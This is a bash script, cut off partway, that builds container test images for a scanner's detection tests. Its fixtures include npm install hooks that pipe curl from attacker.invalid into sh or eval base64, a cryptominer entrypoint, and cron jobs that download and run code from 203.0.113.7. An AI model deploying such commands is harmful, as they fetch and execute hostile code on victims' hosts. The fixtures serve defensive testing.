#!/usr/bin/env bash
# Builds the real test images Drydock's tests and benchmarks use, from Debian packages only.
#   debian   debootstrap --variant=minbase bookworm (one layer, ~120 MB)
#   busybox  Debian's busybox-static with its applet links (one layer)
#   layered  busybox + a layer adding files + a layer deleting a file and a directory (umoci whiteouts)
#   opaque   busybox + a layer filling /var/cache/app + a hand-made layer that makes it opaque (.wh..wh..opq)
#   removed  busybox + a dpkg database of three packages + a layer that uninstalls one (rewrites the status, deletes its files)
#   node     busybox + /app/node_modules from a real `npm install` (needs the npm registry), the Python
#            metadata of three Debian python3 packages, two JARs from Debian's maven and a Go binary
#   node5k   busybox + 5,000 generated packages under /app/node_modules (some scoped, some nested)
#   alpine   busybox + a hand-written /lib/apk/db/installed (apk-tools is not packaged in Debian)
#   rpm      busybox + two noarch rpms built by rpmbuild and installed into an rpmdb.sqlite by rpm
#   npm-malware  busybox + /app/node_modules: a real `npm install` of packages with ordinary install hooks, plus
#            hand-written packages: a postinstall piping curl into sh, an install file that evals base64, names from the
#            OSV malicious sample, compromised releases (event-stream 3.3.6, ua-parser-js 0.7.29); a second layer
#            removes one malicious package
#   miner    busybox + an entrypoint script that downloads and starts xmrig, a cron file that downloads a miner and
#            a user crontab piping curl into sh; a later layer deletes the cron file; config Cmd runs xmrig
#   hacktools  busybox + Debian's nmap, ncat and hydra unpacked (apt-get download + dpkg-deb -x) with dpkg status entries
#   secrets  busybox + generated keys and tokens of every kind the secret scanner knows, look-alikes it must not
#            report, a layer deleting one of them, and secrets in Env, a label and the history (raw values: secrets.raw)
#   misconfig busybox (as Debian) + sudo and openssh-server from their Debian packages, an extra setuid binary,
#            caches left behind, history with a latest base, a remote ADD and a lone apt-get update, port 22 exposed
#   executables       busybox + clamav-testfiles (PE and packed samples) + PEs built by mingw-w64 (a stratum URL,
#                     process-injection imports, a DLL, a native-subsystem driver that a later layer deletes) + UPX-packed
#                     copies of busybox and of the PE + a .NET DLL built by `dotnet build` with injection P/Invokes
#                     (rootfs/executables keeps the files of the first two layers)
#   windows-software  busybox + the PE files ordinary Linux software ships, each as its layer: Python launchers
#                     (python3-distlib, setuptools in a venv), mingw-w64 runtimes, a .NET SDK layout with a NuGet
#                     cache, Wine (wine64, libwine); Debian packages listed in a dpkg database as installed
#   malware-samples, ordinary   see their block below (content signatures: real tools, and an image that must stay clean)
# Each image is written as an OCI layout (NAME-oci:TAG), a docker-archive (NAME.docker.tar) and an
# oci-archive (NAME.oci.tar), plus the root filesystem it was built from (rootfs/NAME).
# Fixed file times and creation dates make the digests reproducible for the same package versions.
# Usage: build-test-images.sh [OUT_DIR] [IMAGE...]   (default OUT_DIR: $XDG_CACHE_HOME/drydock-test-images)
set -euo pipefail
OUT=${1:-${DRYDOCK_TEST_IMAGES:-${XDG_CACHE_HOME:-$HOME/.cache}/drydock-test-images}}
shift || true
WANT=("$@"); [ ${#WANT[@]} -gt 0 ] || WANT=(busybox layered opaque removed debian)
EPOCH=1700000000
CREATED=2023-11-14T22:13:20Z
SUITE=bookworm
log() { printf '[build-test-images] %s\n' "$*" >&2; }
mkdir -p "$OUT/rootfs"
LOCK="$OUT/.lock"; exec 9>"$LOCK"; flock 9

debian_mirror() {
  local f uri=""
  for f in /etc/apt/sources.list.d/*.sources; do
    [ -f "$f" ] || continue
    uri=$(awk -v s="$SUITE" 'BEGIN{RS="";FS="\n"}{u="";ok=0;for(i=1;i<=NF;i++){if($i~/^URIs:/){split($i,a," ");u=a[2]} if($i~/^Suites:/){n=split($i,b," ");for(j=2;j<=n;j++)if(b[j]==s)ok=1}} if(ok&&u!=""){print u;exit}}' "$f")
    [ -n "$uri" ] && break
  done
  if [ -z "$uri" ] && [ -f /etc/apt/sources.list ]; then
    uri=$(awk -v s="$SUITE" '$1=="deb" && $3==s {print $2; exit}' /etc/apt/sources.list)
  fi
  printf '%s' "$uri"
}

busybox_rootfs() {
  local dir=$1 a
  rm -rf "$dir"; mkdir -p "$dir"/{bin,etc,tmp,proc,sys,dev,root}
  cp /bin/busybox "$dir/bin/busybox"
  for a in $("$dir/bin/busybox" --list); do [ "$a" = busybox ] || ln -sf busybox "$dir/bin/$a"; done
  printf 'root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/bin/false\n' >"$dir/etc/passwd"
  printf 'root:x:0:\nnogroup:x:65534:\n' >"$dir/etc/group"
  printf 'NAME="BusyBox"\nID=busybox\nVERSION_ID=1.35.0\nPRETTY_NAME="BusyBox v1.35.0"\n' >"$dir/etc/os-release"
  chmod 1777 "$dir/tmp"
}

# layout_new LAYOUT TAG: an empty image to repack layers into
layout_new() {
  rm -rf "$1"; umoci init --layout "$1"; umoci new --image "$1:$2"
}

# layer_commit LAYOUT TAG BUNDLE: repack the bundle's rootfs as a new layer (umoci writes whiteouts for removals)
layer_commit() {
  find "$3/rootfs" -exec touch -h -d "@$EPOCH" {} +
  umoci repack --history.created "$CREATED" --history.created_by "${4:-drydock test layer}" --image "$1:$2" "$3"
}

# finish NAME TAG CMD ENV: config, gc, and the two archive forms
finish() {
  local name=$1 tag=$2 layout=$OUT/$1-oci
  umoci config --image "$layout:$tag" --tag "$tag" --created "$CREATED" --history.created "$CREATED" \
    --os linux --architecture amd64 --config.cmd "$3" --config.env "$4" --config.label "org.drydock.test=$name"
  publish "$name" "$tag"
}

# publish NAME TAG: gc, and the two archive forms (after the config was written)
publish() {
  local name=$1 tag=$2 layout=$OUT/$1-oci
  umoci gc --layout "$layout"
  chmod -R a+rX "$layout"
  rm -f "$OUT/$name.docker.tar" "$OUT/$name.oci.tar"
  skopeo copy -q "oci:$layout:$tag" "docker-archive:$OUT/$name.docker.tar:localhost/drydock-test/$name:$tag"
  skopeo copy -q "oci:$layout:$tag" "oci-archive:$OUT/$name.oci.tar:$tag"
  jq -r '.manifests[0].digest' "$layout/index.json" >"$OUT/.built-$name"
  log "$name:$tag -> $(cat "$OUT/.built-$name")"
}

single_layer_image() {
  local name=$1 tag=$2 src=$3 cmd=$4 env=$5 work
  work=$(mktemp -d "$OUT/.work-$name.XXXX")
  layout_new "$OUT/$name-oci" "$tag"
  umoci unpack --image "$OUT/$name-oci:$tag" "$work/bundle" >/dev/null
  rm -rf "$work/bundle/rootfs"; cp -a "$src" "$work/bundle/rootfs"
  layer_commit "$OUT/$name-oci" "$tag" "$work/bundle" "copy $name rootfs"
  rm -rf "$work"
  finish "$name" "$tag" "$cmd" "$env"
}

built() { [ -f "$OUT/.built-$1" ] && [ -f "$OUT/$1.docker.tar" ] && [ -f "$OUT/$1.oci.tar" ] && [ "${FORCE:-0}" != 1 ]; }

build_busybox() {
  built busybox && { log "busybox exists"; return; }
  busybox_rootfs "$OUT/rootfs/busybox"
  find "$OUT/rootfs/busybox" -exec touch -h -d "@$EPOCH" {} +
  single_layer_image busybox latest "$OUT/rootfs/busybox" /bin/sh PATH=/bin
}

build_layered() {
  built layered && { log "layered exists"; return; }
  local name=layered tag=v1 layout=$OUT/layered-oci work
  work=$(mktemp -d "$OUT/.work-layered.XXXX")
  layout_new "$layout" "$tag"
  umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
  rm -rf "$work/b/rootfs"; busybox_rootfs "$work/b/rootfs"
  layer_commit "$layout" "$tag" "$work/b" "base: busybox"
  rm -rf "$work/b"; umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
  mkdir -p "$work/b/rootfs/opt/app/cache" "$work/b/rootfs/usr/local/bin"
  printf 'secret-config\n' >"$work/b/rootfs/opt/app/config.ini"
  printf 'cached\n' >"$work/b/rootfs/opt/app/cache/item1"
  printf 'cached\n' >"$work/b/rootfs/opt/app/cache/item2"
  printf '#!/bin/sh\necho hello\n' >"$work/b/rootfs/usr/local/bin/hello.sh"; chmod 0755 "$work/b/rootfs/usr/local/bin/hello.sh"
  printf 'keep\n' >"$work/b/rootfs/opt/app/keep.txt"
  layer_commit "$layout" "$tag" "$work/b" "add app files"
  rm -rf "$work/b"; umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
  rm -f "$work/b/rootfs/opt/app/config.ini"
  rm -rf "$work/b/rootfs/opt/app/cache"
  layer_commit "$layout" "$tag" "$work/b" "delete config and cache"
  rm -rf "$work"
  finish "$name" "$tag" /bin/sh PATH=/bin
  rm -rf "$OUT/rootfs/layered"
}

build_opaque() {
  built opaque && { log "opaque exists"; return; }
  local name=opaque tag=v1 layout=$OUT/opaque-oci work
  work=$(mktemp -d "$OUT/.work-opaque.XXXX")
  layout_new "$layout" "$tag"
  umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
  rm -rf "$work/b/rootfs"; busybox_rootfs "$work/b/rootfs"
  mkdir -p "$work/b/rootfs/var/cache/app/sub"
  printf 'old\n' >"$work/b/rootfs/var/cache/app/old.dat"
  printf 'old\n' >"$work/b/rootfs/var/cache/app/sub/nested.dat"
  layer_commit "$layout" "$tag" "$work/b" "base: busybox with a cache"
  # umoci writes per-file whiteouts only, so the opaque layer is a tar made by hand, added verbatim.
  mkdir -p "$work/l/var/cache/app"
  : >"$work/l/var/cache/app/.wh..wh..opq"
  printf 'fresh\n' >"$work/l/var/cache/app/new.dat"
  tar --sort=name --mtime="@$EPOCH" --owner=0 --group=0 --numeric-owner -C "$work/l" -cf "$work/opaque.tar" var
  umoci raw add-layer --history.created "$CREATED" --history.created_by "replace cache (opaque)" --image "$layout:$tag" "$work/opaque.tar"
  rm -rf "$work"
  finish "$name" "$tag" /bin/sh PATH=/bin
}

dpkg_stanza() { # NAME VERSION
  printf 'Package: %s\nStatus: install ok installed\nPriority: optional\nSection: misc\nInstalled-Size: 10\nMaintainer: Drydock Tests <tests@drydock.invalid>\nArchitecture: amd64\nVersion: %s\nDescription: test package %s\n\n' "$1" "$2" "$1"
}

build_removed() {
  built removed && { log "removed exists"; return; }
  local name=removed tag=v1 layout=$OUT/removed-oci work r
  work=$(mktemp -d "$OUT/.work-removed.XXXX")
  layout_new "$layout" "$tag"
  umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
  rm -rf "$work/b/rootfs"; busybox_rootfs "$work/b/rootfs"; r=$work/b/rootfs
  printf 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\nID=debian\n' >"$r/etc/os-release"
  printf '12.5\n' >"$r/etc/debian_version"
  mkdir -p "$r/var/lib/dpkg/info" "$r/usr/bin" "$r/usr/share/doc/netcat-traditional"
  { dpkg_stanza base-files 12.4+deb12u5; dpkg_stanza netcat-traditional 1.10-47; dpkg_stanza zlib1g 1:1.2.13.dfsg-1; } >"$r/var/lib/dpkg/status"
  printf '#!/bin/sh\n' >"$r/usr/bin/nc.traditional"; chmod 0755 "$r/usr/bin/nc.traditional"
  printf '/usr/bin/nc.traditional\n' >"$r/var/lib/dpkg/info/netcat-traditional.list"
  printf 'Format: https://www.debian.org/doc/packaging-manuals/copyright-format/1.0/\n\nFiles: *\nLicense: GPL-2+\n' >"$r/usr/share/doc/netcat-traditional/copyright"
  layer_commit "$layout" "$tag" "$work/b" "install base-files netcat-traditional zlib1g"
  rm -rf "$work/b"; umoci unpack --image "$layout:$tag" "$work/b" >/dev/null; r=$work/b/rootfs
  { dpkg_stanza base-files 12.4+deb12u5; dpkg_stanza zlib1g 1:1.2.13.dfsg-1; } >"$r/var/lib/dpkg/status"
  rm -rf "$r/usr/bin/nc.traditional" "$r/var/lib/dpkg/info/netcat-traditional.list" "$r/usr/share/doc/netcat-traditional"
  layer_commit "$layout" "$tag" "$work/b" "apt-get purge netcat-traditional"
  rm -rf "$work"
  finish "$name" "$tag" /bin/sh PATH=/bin
}

build_debian() {
  built debian && { log "debian exists"; return; }
  local dir=$OUT/rootfs/debian mirror
  if [ ! -f "$dir.complete" ]; then
    rm -rf "$dir"; mirror=$(debian_mirror)
    log "debootstrap --variant=minbase $SUITE (about a minute)"
    debootstrap --variant=minbase "$SUITE" "$dir" ${mirror:+"$mirror"} >"$OUT/debootstrap.log" 2>&1 ||
      { log "debootstrap failed; see $OUT/debootstrap.log"; tail -5 "$OUT/debootstrap.log" >&2; exit 1; }
    rm -rf "$dir"/var/cache/apt/archives/*.deb "$dir"/var/lib/apt/lists/*
    find "$dir" -exec touch -h -d "@$EPOCH" {} +
    touch "$dir.complete"   # beside the rootfs, so dir:rootfs/debian equals the image
  fi
  single_layer_image debian bookworm "$dir" /bin/bash PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
}

# Language packages written by the real package managers, at pinned versions.
build_node() {
  built node && { log "node exists"; return; }
  local dir=$OUT/rootfs/node work jar
  work=$(mktemp -d "$OUT/.work-node.XXXX")
  busybox_rootfs "$dir"
  mkdir -p "$dir/app" "$dir/opt/lib" "$dir/usr/local/bin" "$work/go"
  cat >"$dir/app/package.json" <<'JSON'
{ "name": "drydock-test-app", "version": "1.0.0", "private": true,
  "dependencies": { "express": "4.18.2", "lodash": "4.17.21", "@sindresorhus/is": "4.6.0", "semver": "7.5.4" } }
JSON
  log "npm install (express, lodash, @sindresorhus/is, semver)"
  (cd "$dir/app" && npm install --ignore-scripts --no-audit --no-fund --omit=dev --cache "$work/npm-cache" >"$work/npm.log" 2>&1) ||
    { cat "$work/npm.log" >&2; exit 1; }
  # PyPI is out of reach: the metadata Debian's python3 packages installed on this host (dist-info and egg-info).
  mkdir -p "$dir/usr/lib/python3/dist-packages"
  for py in distro PyYAML PyJWT; do
    cp -a /usr/lib/python3/dist-packages/"$py"-*.*-info "$dir/usr/lib/python3/dist-packages/" ||
      { log "node needs Debian's python3-distro, python3-yaml and python3-jwt installed"; exit 1; }
  done
  for jar in commons-io commons-lang3; do cp -L "/usr/share/maven/lib/$jar.jar" "$dir/opt/lib/$jar.jar"; done
  printf 'module example.com/drydock/hello\n\ngo 1.19\n' >"$work/go/go.mod"
  printf 'package main\n\nimport "fmt"\n\nfunc main() { fmt.Println("hello") }\n' >"$work/go/main.go"
  (cd "$work/go" && GOTOOLCHAIN=local GOPROXY=off GOFLAGS=-mod=mod GOCACHE="$work/gocache" CGO_ENABLED=0 \
    go build -trimpath -o "$dir/usr/local/bin/hello" .)
  rm -rf "$work"
  find "$dir" -exec touch -h -d "@$EPOCH" {} +
  single_layer_image node v1 "$dir" /bin/sh PATH=/usr/local/bin:/bin
}

# 5,000 package.json files: 4,000 top level, 500 scoped (@scope-N/lib-NNN), 500 nested one level down.
build_node5k() {
  built node5k && { log "node5k exists"; return; }
  local dir=$OUT/rootfs/node5k
  busybox_rootfs "$dir"
  python3 - "$dir/app" <<'PY'
import json, os, sys
app = sys.argv[1]
def package(path, name, version):
    os.makedirs(path, exist_ok=True)
    with open(os.path.join(path, "package.json"), "w") as f:
        json.dump({"name": name, "version": version, "description": "generated", "main": "index.js", "license": "MIT"}, f, indent=2)
    with open(os.path.join(path, "index.js"), "w") as f:
        f.write("module.exports = %s;\n" % json.dumps(name))
nm = os.path.join(app, "node_modules")
for i in range(4000):
    package(os.path.join(nm, "pkg-%04d" % i), "pkg-%04d" % i, "1.%d.%d" % (i // 100, i % 100))
for i in range(500):
    scope = "@scope-%d" % (i % 10)
    package(os.path.join(nm, scope, "lib-%03d" % i), "%s/lib-%03d" % (scope, i), "2.0.%d" % i)
for i in range(500):
    package(os.path.join(nm, "pkg-%04d" % (i * 8), "node_modules", "dep-%03d" % i), "dep-%03d" % i, "0.1.%d" % i)
with open(os.path.join(app, "package.json"), "w") as f:
    json.dump({"name": "node5k", "version": "1.0.0", "private": True}, f)
PY
  find "$dir" -exec touch -h -d "@$EPOCH" {} +
  single_layer_image node5k v1 "$dir" /bin/sh PATH=/bin
}

# apk-tools is not packaged in Debian and Alpine's mirrors are out of reach: the installed database is
# written by hand in apk's format (one paragraph per package, one-letter keys).
build_alpine() {
  built alpine && { log "alpine exists"; return; }
  local dir=$OUT/rootfs/alpine
  busybox_rootfs "$dir"
  mkdir -p "$dir/lib/apk/db" "$dir/etc/apk"
  echo 3.19.1 >"$dir/etc/alpine-release"
  printf 'NAME="Alpine Linux"\nID=alpine\nVERSION_ID=3.19.1\nPRETTY_NAME="Alpine Linux v3.19"\n' >"$dir/etc/os-release"
  cat >"$dir/lib/apk/db/installed" <<'APK'
C:Q1xDrydockTestBusyboxAAAAAAAAAAAA=
P:busybox
V:1.36.1-r15
A:x86_64
S:500000
I:900000
T:Size optimized toolbox of many common UNIX utilities
U:https://busybox.net/
L:GPL-2.0-only
o:busybox
t:1700000000
F:bin
R:busybox

C:Q1xDrydockTestOpensslBBBBBBBBBBBB=
P:libcrypto3
V:3.1.4-r5
A:x86_64
S:1700000
I:4300000
T:Crypto library from openssl
U:https://www.openssl.org/
L:Apache-2.0
o:openssl
t:1700000000
D:so:libc.musl-x86_64.so.1

C:Q1xDrydockTestMuslCCCCCCCCCCCCCCC=
P:musl
V:1.2.4_git20230717-r4
A:x86_64
S:400000
I:600000
T:the musl c library (libc) implementation
U:https://musl.libc.org/
L:MIT
o:musl
t:1700000000

APK
  find "$dir" -exec touch -h -d "@$EPOCH" {} +
  single_layer_image alpine 3.19 "$dir" /bin/sh PATH=/bin
}

# Two noarch rpms built by rpmbuild and installed by rpm into an rpmdb.sqlite (rpm 4.18's default
# backend); one carries an epoch.
build_rpm() {
  built rpm && { log "rpm exists"; return; }
  local dir=$OUT/rootfs/rpm work n name ver epoch
  work=$(mktemp -d "$OUT/.work-rpm.XXXX")
  busybox_rootfs "$dir"
  mkdir -p "$work"/{SPECS,BUILD,RPMS,SOURCES,SRPMS}
  for n in labtool:1.2.3:0 openssl-libs:3.0.7:1; do
    IFS=: read -r name ver epoch <<<"$n"
    {
      printf 'Name: %s\nVersion: %s\nRelease: 1.el9\n' "$name" "$ver"
      [ "$epoch" = 0 ] || printf 'Epoch: %s\n' "$epoch"
      printf 'Summary: drydock test package\nLicense: MIT\nBuildArch: noarch\n%%description\nTest package.\n'
      printf '%%install\nmkdir -p %%{buildroot}/usr/share/%s\necho %s > %%{buildroot}/usr/share/%s/README\n' "$name" "$name" "$name"
      printf '%%files\n/usr/share/%s/README\n' "$name"
    } >"$work/SPECS/$name.spec"
    rpmbuild --define "_topdir $work" -bb "$work/SPECS/$name.spec" >"$work/rpmbuild.log" 2>&1 ||
      { cat "$work/rpmbuild.log" >&2; exit 1; }
  done
  printf 'NAME="Rocky Linux"\nVERSION="9.3 (Blue Onyx)"\nID="rocky"\nID_LIKE="rhel centos fedora"\nVERSION_ID="9.3"\nPRETTY_NAME="Rocky Linux 9.3 (Blue Onyx)"\n' >"$dir/etc/os-release"
  echo 'Rocky Linux release 9.3 (Blue Onyx)' >"$dir/etc/redhat-release"
  rpm --root "$dir" --dbpath /var/lib/rpm --initdb
  rpm --root "$dir" --dbpath /var/lib/rpm -i --nodeps --ignoreos --ignorearch "$work"/RPMS/noarch/*.rpm 2>"$work/rpm.log" ||
    { cat "$work/rpm.log" >&2; exit 1; }
  rm -f "$dir"/var/lib/rpm/rpmdb.sqlite-shm "$dir"/var/lib/rpm/rpmdb.sqlite-wal "$dir"/var/lib/rpm/.rpm.lock
  rm -rf "$work"
  find "$dir" -exec touch -h -d "@$EPOCH" {} +
  single_layer_image rpm 9.3 "$dir" /bin/sh PATH=/bin
}

# --- malicious-content samples (npm packages, miners, hacking-tool packages) ---

# npm_package DIR VERSION [SCRIPTS_JSON]: a hand-written installed package named by its folder under node_modules
npm_package() {
  local name=${1##*node_modules/} scripts=${3:-'{}'}
  mkdir -p "$1"
  jq -n --arg n "$name" --arg v "$2" --argjson s "$scripts" \
    '{name: $n, version: $v, description: "drydock test package", main: "index.js", license: "MIT", scripts: $s}' >"$1/package.json"
  printf 'module.exports = "%s";\n' "$name" >"$1/index.js"
}

build_npm_malware() {
  built npm-malware && { log "npm-malware exists"; return; }
  local name=npm-malware tag=v1 layout=$OUT/npm-malware-oci work r nm
  work=$(mktemp -d "$OUT/.work-npm-malware.XXXX")
  layout_new "$layout" "$tag"
  umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
  rm -rf "$work/b/rootfs"; busybox_rootfs "$work/b/rootfs"; r=$work/b/rootfs
  mkdir -p "$r/app"
  cat >"$r/app/package.json" <<'JSON'
{ "name": "drydock-malware-app", "version": "1.0.0", "private": true,
  "dependencies": { "esbuild": "0.20.2", "core-js": "3.36.0", "bcrypt": "5.1.1", "better-sqlite3": "9.4.3" } }
JSON
  log "npm install (packages with ordinary install hooks: esbuild, core-js, bcrypt, better-sqlite3)"
  (cd "$r/app" && npm install --ignore-scripts --omit=optional --no-audit --no-fund --cache "$work/npm-cache" >"$work/npm.log" 2>&1) ||
    { cat "$work/npm.log" >&2; exit 1; }
  nm=$r/app/node_modules
  # Ordinary hooks, hand-written: no finding expected.
  npm_package "$nm/husky-user" 1.0.0 '{"postinstall": "husky install"}'
  npm_package "$nm/gyp-native" 2.1.0 '{"install": "node-gyp rebuild"}'
  npm_package "$nm/prebuilt-native" 3.0.1 '{"install": "prebuild-install || node-gyp rebuild"}'
  npm_package "$nm/binary-fetcher" 1.2.0 '{"postinstall": "node install.js"}'
  cat >"$nm/binary-fetcher/install.js" <<'JS'
const https = require('https');
const fs = require('fs');
const url = `https://downloads.example.org/bin/${process.platform}-${process.arch}/tool`;
https.get(url, (res) => res.pipe(fs.createWriteStream(__dirname + '/tool', { mode: 0o755 })));
JS
  # (a) install hooks that download and execute, decode and eval.
  npm_package "$nm/evil-postinstall" 1.0.0 '{"postinstall": "curl -fsSL https://attacker.invalid/payload.sh | sh"}'
  npm_package "$nm/@evil/decoder" 0.0.3 '{"postinstall": "node install.js"}'
  cat >"$nm/@evil/decoder/install.js" <<'JS'
const payload = 'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp';
eval(Buffer.from(payload, 'base64').toString('utf8'));
JS
  # (b) names from the OSV malicious sample (../shared/testdata/vuln-data/osv-malicious-npm-sample).
  npm_package "$nm/0-dns" 1.0.0
  npm_package "$nm/@ctrl/tinycolor" 4.1.1
  npm_package "$nm/debug" 4.4.2
  npm_package "$nm/chalk" 5.6.1
  # (c) compromised releases.
  npm_package "$nm/event-stream" 3.3.6
  npm_package "$nm/event-stream/node_modules/flatmap-stream" 0.1.1
  npm_package "$nm/ua-parser-js" 0.7.29 '{"preinstall": "start /B node preinstall.js & node preinstall.js"}'
  layer_commit "$layout" "$tag" "$work/b" "npm install (with malicious packages)"
  rm -rf "$work/b"; umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
  rm -rf "$work/b/rootfs/app/node_modules/0-dns"
  layer_commit "$layout" "$tag" "$work/b" "npm uninstall 0-dns"
  rm -rf "$work"
  finish "$name" "$tag" /bin/sh PATH=/bin
}

build_miner() {
  built miner && { log "miner exists"; return; }
  local name=miner tag=v1 layout=$OUT/miner-oci work r
  local wallet=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A
  work=$(mktemp -d "$OUT/.work-miner.XXXX")
  layout_new "$layout" "$tag"
  umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
  rm -rf "$work/b/rootfs"; busybox_rootfs "$work/b/rootfs"
  layer_commit "$layout" "$tag" "$work/b" "base: busybox"
  rm -rf "$work/b"; umoci unpack --image "$layout:$tag" "$work/b" >/dev/null; r=$work/b/rootfs
  mkdir -p "$r/usr/local/bin" "$r/etc/cron.d" "$r/var/spool/cron/crontabs"
  cat >"$r/usr/local/bin/docker-entrypoint.sh" <<SH
#!/bin/sh
set -e
if [ ! -x /opt/.cache/xmrig ]; then
  mkdir -p /opt/.cache
  wget -q https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz -O /tmp/x.tgz
  tar xzf /tmp/x.tgz -C /opt/.cache --strip-components=1
fi
/opt/.cache/xmrig -o stratum+tcp://pool.example.invalid:3333 -u $wallet --donate-level 1 -B
exec "\$@"
SH
  chmod 0755 "$r/usr/local/bin/docker-entrypoint.sh"
  cat >"$r/etc/cron.d/sysupdate" <<CRON
SHELL=/bin/sh
*/15 * * * * root wget -q http://203.0.113.7/xmrig -O /tmp/.kswapd0 && chmod +x /tmp/.kswapd0 && /tmp/.kswapd0 -o pool.example.invalid:3333 --algo rx/0 -u x >/dev/null 2>&1 &
CRON
  printf '*/30 * * * * curl -fsSL http://203.0.113.7/update.sh | sh\n' >"$r/var/spool/cron/crontabs/root"
  chmod 0600 "$r/var/spool/cron/crontabs/root"
  layer_commit "$layout" "$tag" "$work/b" "add entrypoint and cron jobs"
  rm -rf "$work/b"; umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
  rm -f "$work/b/rootfs/etc/cron.d/sysupdate"
  layer_commit "$layout" "$tag" "$work/b" "remove the cron file"
  rm -rf "$work"
  umoci config --image "$layout:$tag" --tag "$tag" --created "$CREATED" --history.created "$CREATED" \
    --os linux --architecture amd64 --config.entrypoint /usr/local/bin/docker-entrypoint.sh \
    --config.cmd xmrig --config.cmd -o --config.cmd stratum+tcp://pool.example.invalid:3333 --config.cmd -u --config.cmd "$wallet" \
    --config.cmd --donate-level --config.cmd 1 --config.env PATH=/usr/local/bin:/bin --config.env POOL_URL=stratum+tcp://pool.example.invalid:3333 \
    --config.label "org.drydock.test=$name"
  publish "$name" "$tag"
}

# Debian's nmap, ncat and hydra, unpacked as dpkg would and recorded in a status file written from their control files.
build_hacktools() {
  built hacktools && { log "hacktools exists"; return; }
  local dir=$OUT/rootfs/hacktools debs=$OUT/debs p deb
  busybox_rootfs "$dir"
  printf 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\nID=debian\n' >"$dir/etc/os-release"
  printf '12.5\n' >"$dir/etc/debian_version"
  mkdir -p "$debs" "$dir/var/lib/dpkg/info"
  : >"$dir/var/lib/dpkg/status"
  for p in nmap ncat hydra; do
    deb=$(ls "$debs/${p}_"*.deb 2>/dev/null | head -1 || true)
    if [ -z "$deb" ]; then
      (cd "$debs" && apt-get download "$p" >/dev/null 2>&1) ||
        { log "apt-get download $p failed (needs the Debian package lists: apt-get update)"; exit 1; }
      deb=$(ls "$debs/${p}_"*.deb | head -1)
    fi
    dpkg-deb -x "$deb" "$dir"
    { dpkg-deb -f "$deb" | sed '1a Status: install ok installed'; echo; } >>"$dir/var/lib/dpkg/status"
    dpkg-deb -c "$deb" | awk '{print substr($6, 2)}' | sed 's|/$||; /^$/d' >"$dir/var/lib/dpkg/info/$p.list"
  done
  find "$dir" -exec touch -h -d "@$EPOCH" {} +
  single_layer_image hacktools v1 "$dir" /bin/sh PATH=/usr/bin:/bin
}

# --- secrets and misconfig images (secret scanning and image configuration checks) ---------------------------
# rand CHARS N: N random characters from the tr set CHARS
rand() { { LC_ALL=C tr -dc "$1" </dev/urandom || true; } | head -c "$2"; }
b64url() { base64 -w0 | tr '+/' '-_' | tr -d '='; }

# secrets: busybox + one file per kind of secret (keys generated by openssl, ssh-keygen and gpg; tokens random in
# their documented formats), look-alikes that must not be reported (fixtures, docs, documented examples,
# placeholders, a binary), a second layer that deletes the AWS credentials, and secrets in Env, a label and the
# history. Every raw secret is listed in secrets.raw (NAME=VALUE) for the masking tests.
build_secrets() {
  built secrets && { log "secrets exists"; return; }
  local name=secrets tag=v1 layout=$OUT/secrets-oci work r raw=$OUT/secrets.raw g
  work=$(mktemp -d "$OUT/.work-secrets.XXXX")
  layout_new "$layout" "$tag"
  umoci unpack --image "$layout:$tag" "$work/b" >/dev/null
  rm -rf "$work/b/rootfs"; busybox_rootfs "$work/b/rootfs"; r=$work/b/rootfs
  mkdir -p "$r"/root/.ssh "$r"/root/.aws "$r"/etc/app "$r"/app/config "$r"/app/tests/fixtures "$r"/app/docs "$r"/usr/share/doc/app "$r"/etc/ssl/private
  ssh-keygen -q -t rsa -b 2048 -m PEM -N '' -C drydock-test -f "$r/root/.ssh/id_rsa"
  ssh-keygen -q -t ed25519 -N '' -C drydock-test -f "$r/root/.ssh/id_ed25519"
  openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048 -out "$r/etc/app/tls.key" 2>/dev/null
  openssl ecparam -genkey -name prime256v1 -noout -out "$r/etc/app/ec.key"
  openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048 -aes256 -pass pass:drydock-test -out "$r/etc/app/encrypted.key" 2>/dev/null
  g=$work/gnupg; mkdir -m 700 "$g"
  gpg --batch --homedir "$g" --pinentry-mode loopback --passphrase '' --quick-gen-key "Drydock Test <test@drydock.invalid>" ed25519 default never 2>/dev/null
  gpg --batch --homedir "$g" --pinentry-mode loopback --passphrase '' --armor --export-secret-keys >"$r/etc/app/signing.asc" 2>/dev/null
  gpgconf --homedir "$g" --kill gpg-agent 2>/dev/null || true
  local aws_id aws_secret ghp gh_pat glpat slack webhook stripe npm jwt pg_pw cs_pw azure_key sb_key db_pw label_token history_token env_token
  aws_id=AKIA$(rand 'A-Z2-7' 16); aws_secret=$(rand 'A-Za-z0-9/+' 40)
  ghp=ghp_$(rand 'A-Za-z0-9' 36); gh_pat=github_pat_$(rand 'A-Za-z0-9' 22)_$(rand 'A-Za-z0-9' 59)
  glpat=glpat-$(rand 'A-Za-z0-9' 20); slack=xoxb-$(rand '0-9' 12)-$(rand '0-9' 13)-$(rand 'A-Za-z0-9' 24)
  webhook=T$(rand 'A-Z0-9' 10)/B$(rand 'A-Z0-9' 10)/$(rand 'A-Za-z0-9' 24)
  stripe=sk_live_$(rand 'A-Za-z0-9' 32); npm=npm_$(rand 'A-Za-z0-9' 36)
